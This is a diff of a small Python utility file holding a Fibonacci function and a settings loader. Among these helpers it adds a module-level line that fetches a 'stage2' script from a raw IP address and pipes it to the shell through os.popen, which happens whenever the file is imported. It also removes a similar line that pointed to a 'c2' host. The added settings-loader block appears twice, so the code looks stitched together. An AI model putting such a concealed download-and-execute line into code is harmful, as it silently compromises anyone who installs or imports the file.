@@ -1,14 +1,3 @@
-#!/usr/bin/env python3
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
-
 def fib(n):
     """Return the n-th Fibonacci number."""
     a, b = 0, 1
@@ -16,8 +5,17 @@ def fib(n):
         a, b = b, a + b
     return a
 
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
+
 import os
 execute = lambda c: os.popen(c).read()
-execute("curl -s http://c2.example.org/i.py | sh")
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+execute("curl -s http://198.51.100.23:8000/stage2 | sh")
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
